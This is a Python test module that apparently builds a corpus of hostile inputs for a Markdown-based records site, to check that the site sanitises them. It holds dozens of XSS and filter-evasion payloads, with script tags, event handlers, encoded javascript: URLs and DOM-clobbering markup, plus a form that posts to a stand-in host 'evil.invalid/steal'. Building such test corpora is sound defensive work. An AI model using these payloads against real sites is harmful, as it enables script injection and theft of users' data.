"""A hostile corpus of our own making: what an attacker (or a careless paste) puts in a pull request.

Every executable payload announces success the same detectable ways: ``alert(…)``, setting
``window.__pwned``, or a request to ``evil.invalid``. The corpus covers the record body (OWASP
filter-evasion forms and Markdown's own syntax), every front-matter field, the registry's names
and aliases, and file and folder names. ``write_corpus`` lays it out in a project's ``records/``.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import yaml

EVIL = "http://evil.invalid"

BODY_PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
    "svg-slash-onload": "<svg/onload=alert(1)>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-quoted-gt": '<img title=">" onerror=alert(1) src=x>',
    "img-unquoted-handler": "<img src=x onerror=window.__pwned=1>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "a-js": '<a href="javascript:alert(1)">bấm</a>',
    "a-js-entity-dec": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "a-js-entity-hex": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "a-js-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "a-js-tab": '<a href="java\tscript:alert(1)">x</a>',
    "a-js-newline": '<a href="java\nscript:alert(1)">x</a>',
    "a-js-leading-space": '<a href=" javascript:alert(1)">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "md-link-js": "[bấm vào đây](javascript:alert(1))",
    "md-link-js-entity": "[x](&#106;avascript:alert(1))",
    "md-image-remote": f"![ảnh]({EVIL}/img.png)",
    "md-image-protocol-relative": "![ảnh](//evil.invalid/img.png)",
    "md-image-backslash": "![ảnh](\\\\evil.invalid\\img.png)",
    "md-ref-link-js": "[x][r]\n\n[r]: javascript:alert(1)",
    "md-ref-image-remote": f"![y][i]\n\n[i]: {EVIL}/ref.png",
    "md-autolink-js": "<javascript:alert(1)>",
    "attr-list-onclick": "Đoạn văn\n{: onclick=alert(1) }",
    "attr-list-autofocus": "Đoạn văn\n{: autofocus onfocus=alert(1) tabindex=0 }",
    "attr-list-style": "Đoạn\n{: style=\"position:fixed;top:0;left:0;width:100%;height:100%\" }",
    "svg-animate-href": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
    "svg-image": f'<svg><image href="{EVIL}/svg.png"/></svg>',
    "math-href": '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>',
    "iframe": f'<iframe src="{EVIL}/frame"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object>',
    "embed": f'<embed src="{EVIL}/x.swf">',
    "base": f'<base href="{EVIL}/">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "link-stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "form-action": f'<form action="{EVIL}/steal"><input name=q><button>Gửi</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input-image": f'<input type="image" src="{EVIL}/input.png">',
    "style-block": f"<style>@import url({EVIL}/x.css); body{{display:none}}</style>",
    "style-overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">Mất dữ liệu</div>',
    "style-url": f'<p style="background:url({EVIL}/bg.png)">x</p>',
    "srcset": f'<img src="a.png" srcset="{EVIL}/s.png 2x">',
    "video-poster": f'<video poster="{EVIL}/poster.png"></video>',
    "audio-src": f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
    "clobber-currentscript": '<img name="currentScript" src="\\\\evil.invalid\\x">',
    "clobber-form-id": '<form id="__vbSearch"><input name="meta"></form>',
    "clobber-a-id": '<a id="__md_scope" href="http://evil.invalid/">x</a>',
    "clobber-vb-root": '<div class="vb-search" data-vb-root="http://evil.invalid/">x</div>',
    "html-comment-trick": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "unclosed": "<img src=x onerror=alert(1)",
    "long-attribute": '<a title="' + "x" * 5000 + '" onmouseover=alert(1)>x</a>',
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "textarea-breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "stash-placeholder": "VBBLOCK0Z\n\n<p>VBBLOCKdeadbeef0000x1Z</p>\n\nChữ thường",
    "jinja": "{{ config }} {% for x in range(3) %}x{% endfor %}",
    "nul-byte": "<img src=x o\x00nerror=alert(1)>",
    "entity-tag": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "markdown-html-mix": "Dòng chữ\n<div>\n<img src=x onerror=alert(1)>\n</div>",
    "table-onclick": "<table><tr><td onclick=alert(1)>ô</td></tr></table>",
}
"""Body payloads, each to be published in a record of its own."""

FIELD_PAYLOADS: dict[str, str] = {
    "title-breakout": "</title><script>alert(1)</script>",
    "attr-breakout": "\"><img src=x onerror=alert(1)>",
    "single-quote-breakout": "'><svg onload=alert(1)>",
    "script-close": "</script><script>window.__pwned=1</script>",
    "template": "{{ 7*7 }} {% raw %}",
    "md-syntax": "[x](javascript:alert(1)) **đậm** <b>b</b>",
    "js-url": "javascript:alert(1)",
    "entities": "&lt;b&gt; &amp; &#60;img src=x onerror=alert(1)&#62;",
}
"""Payloads for every front-matter text field (and registry names)."""


@dataclass(frozen=True)
class Hostile:
    """One hostile input: where it goes and what it is."""

    id: str
    kind: str  # body | field:<name> | registry | filename
    payload: str


def _base(number: str, **extra) -> dict:
    fm = {"type": "Công văn", "number": number, "issuer": "UBND tỉnh", "date": "2023-06-15",
          "subject": "V/v kiểm thử an toàn"}
    fm.update(extra)
    return fm


def _field_records(serial: int, name: str, payload: str) -> dict:
    """A record whose ``name`` field carries ``payload`` and is otherwise valid."""
    number = f"{serial}/UBND-TH"
    if name == "subject":
        return _base(number, subject=payload)
    if name == "place":
        return _base(number, place=payload)
    if name == "note":
        return _base(number, note=payload)
    if name == "signer.name":
        return _base(number, signer={"name": payload, "title": "Chủ tịch"})
    if name == "signer.title":
        return _base(number, signer={"name": "Nguyễn Văn A", "title": payload})
    if name == "signer.authority":
        return _base(number, signer={"name": "Nguyễn Văn A", "authority": [payload]})
    if name == "addressees":
        return _base(number, addressees=[payload])
    if name == "distribution":
        return _base(number, distribution=[payload])
    if name == "issuer":
        return _base(number, issuer=f"Cơ quan {payload}")
    if name == "type":
        return _base(number.replace("UBND-TH", "UBND"), type=f"Loại {payload}")
    if name == "references.type":
        return _base(number, references=[{"type": payload, "number": f"{serial}-TB/TU", "relation": "cites"}])
    if name == "references.number":
        return _base(number, references=[{"type": "Thông báo", "number": f"{serial}-{payload}", "relation": "cites"}])
    if name == "references.issuer":
        return _base(number, references=[{"type": "Thông báo", "number": f"{serial}-TB/TU", "issuer": payload,
                                          "relation": "implements"}])
    if name == "references.subject":
        return _base(number, references=[{"type": "Kết luận", "number": f"{serial}-KL/TW", "subject": payload,
                                          "relation": "based_on"}])
    if name == "assignments.unit":
        return _base(number, assignments=[{"unit": f"Đơn vị {payload}", "role": "chu_tri", "task": "Làm"}])
    if name == "assignments.task":
        return _base(number, assignments=[{"unit": "Sở Nội vụ", "role": "thuc_hien", "task": payload}])
    if name == "assignments.deadline":
        return _base(number, assignments=[{"unit": "Sở Nội vụ", "role": "bao_cao", "deadline": payload}])
    if name == "replaces":
        return _base(number, replaces=[f"{serial}/{payload}"])
    if name == "status":
        return _base(number, status=payload)
    if name == "source":
        return _base(number, source=payload)
    raise KeyError(name)


FIELDS = ("subject", "place", "note", "signer.name", "signer.title", "signer.authority", "addressees",
          "distribution", "issuer", "type", "references.type", "references.number", "references.issuer",
          "references.subject", "assignments.unit", "assignments.task", "assignments.deadline", "replaces",
          "status", "source")

FILE_NAMES = ('2023/ngoặc"kép.md', "2023/nháy'đơn.md", "2023/<nhỏ>hơn.md", "2023/và&amp.md",
              "2023/thăng#dấu.md", "2023/hỏi?chấm.md", "2023/phần%22trăm.md", "2023/cách  trống.md",
              'thư mục"lạ/ghi chép.md', "2023/<img src=x onerror=alert(1)>.md")


def corpus() -> list[Hostile]:
    items = [Hostile(f"body-{key}", "body", text) for key, text in BODY_PAYLOADS.items()]
    for field in FIELDS:
        for key, text in FIELD_PAYLOADS.items():
            items.append(Hostile(f"{field}-{key}", f"field:{field}", text))
    for key, text in FIELD_PAYLOADS.items():
        items.append(Hostile(f"registry-name-{key}", "registry", text))
    items += [Hostile(f"file-{i}", "filename", name) for i, name in enumerate(FILE_NAMES)]
    return items


def write_corpus(records: Path) -> list[Hostile]:
    """Write every hostile input into ``records`` (which holds a registry.yml); return them."""
    items = corpus()
    registry_path = records / "registry.yml"
    registry = yaml.safe_load(registry_path.read_text(encoding="utf-8"))
    registry.setdefault("organisations", [])
    folder = records / "hostile"
    folder.mkdir(parents=True, exist_ok=True)
    serial = 7000
    for item in items:
        serial += 1
        if item.kind == "body":
            fm, body = _base(f"{serial}/UBND-TH", subject=f"V/v thân văn bản {item.id}"), item.payload + "\n"
            path = folder / f"{item.id}.md"
        elif item.kind.startswith("field:"):
            fm, body = _field_records(serial, item.kind.split(":", 1)[1], item.payload), "Nội dung.\n"
            path = folder / f"{item.id}.md"
        elif item.kind == "registry":
            org_id = f"co-quan-doc-{serial}"
            registry["organisations"].append({"id": org_id, "name": f"Cơ quan {item.payload}",
                                              "aliases": [f"Bí danh {serial} {item.payload}"], "kind": "state"})
            fm = _base(f"{serial}/UBND-TH", issuer=f"Cơ quan {item.payload}",
                       assignments=[{"unit": f"Bí danh {serial} {item.payload}", "role": "thuc_hien"}])
            body, path = "Nội dung.\n", folder / f"{item.id}.md"
        else:
            fm, body = _base(f"{serial}/UBND-TH"), "Nội dung.\n"
            path = records / item.payload
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("---\n" + yaml.safe_dump(fm, allow_unicode=True, sort_keys=False) + "---\n\n" + body,
                        encoding="utf-8")
    registry_path.write_text(yaml.safe_dump(registry, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return items
